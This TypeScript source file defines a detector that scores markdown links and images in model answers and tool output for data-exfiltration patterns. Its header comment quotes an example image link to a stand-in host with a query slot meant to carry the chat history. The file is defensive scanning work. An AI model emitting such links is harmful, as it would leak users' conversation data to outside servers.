/**
 * Links and images that carry data away when they are shown: `![](https://x.example/?q=[history])`. In: a part. Out: a finding
 * for each address whose query is a slot to be filled, or holds a long opaque value in an image that nobody has to click.
 *
 * Judged in what a model answers and in what tools and documents bring; a user may paste any link. One pass by `indexOf`.
 */
import type { Finding } from "../finding.ts";
import type { PartDetector } from "../inspect.ts";
import { classified } from "../taxonomy.ts";

const maxFindings = 8;
const maxAddress = 4096;
/** A slot asks for data: `{data}`, `[secret]`, `<history>`, `$TOKEN`, `%s`. */
const slotScore = 0.9;
/** An opaque value may be a signature too. */
const opaqueScore = 0.4;
const opaqueLength = 48;

export const exfiltrationDetector: PartDetector = {
  name: "exfiltration",
  version: "1",
  judge({ text, origin }) {
    if (origin === "instructions" || origin === "user") return { probability: 0, findings: [] };
    const findings: Finding[] = [];
    let probability = 0;
    for (let at = text.indexOf("]("); at >= 0 && findings.length < maxFindings; at = text.indexOf("](", at + 2)) {
      const end = endOfAddress(text, at + 2);
      const score = scoreOf(text.slice(at + 2, end), isImage(text, at));
      probability = Math.max(probability, score);
      if (score < 0.5) continue;
      const span = { start: startOfLink(text, at), end };
      findings.push(classified({ detector: "exfiltration/link", category: "exfiltration", ...span, score }));
    }
    return { probability, findings };
  },
};

function endOfAddress(text: string, from: number): number {
  const limit = Math.min(text.length, from + maxAddress);
  let at = from;
  while (at < limit && text[at] !== ")" && text[at] !== "\n") at += 1;
  return at;
}

/** The `[` of the link's words, looked for a little way back. */
function startOfLink(text: string, close: number): number {
  const floor = Math.max(0, close - 200);
  for (let at = close - 1; at >= floor; at--) {
    if (text[at] === "\n") break;
    if (text[at] === "[") return at > 0 && text[at - 1] === "!" ? at - 1 : at;
  }
  return close;
}

function isImage(text: string, close: number): boolean {
  return text[startOfLink(text, close)] === "!";
}

function scoreOf(address: string, image: boolean): number {
  if (!/^\s*<?https?:\/\//i.test(address)) return 0;
  const query = address.indexOf("?");
  const tail = query < 0 ? "" : address.slice(query + 1);
  if (/[=/&]?(?:\{{1,2}[^}]{1,64}\}|\[[^\]]{1,64}\]|<[a-z_ ]{2,40}>|\$\{?[A-Za-z_]{2,40})/.test(tail))
    return image ? slotScore : 0.6;
  const longest = tail.split("&").reduce((most, field) => Math.max(most, field.length - field.indexOf("=") - 1), 0);
  return image && longest >= opaqueLength ? opaqueScore : 0;
}
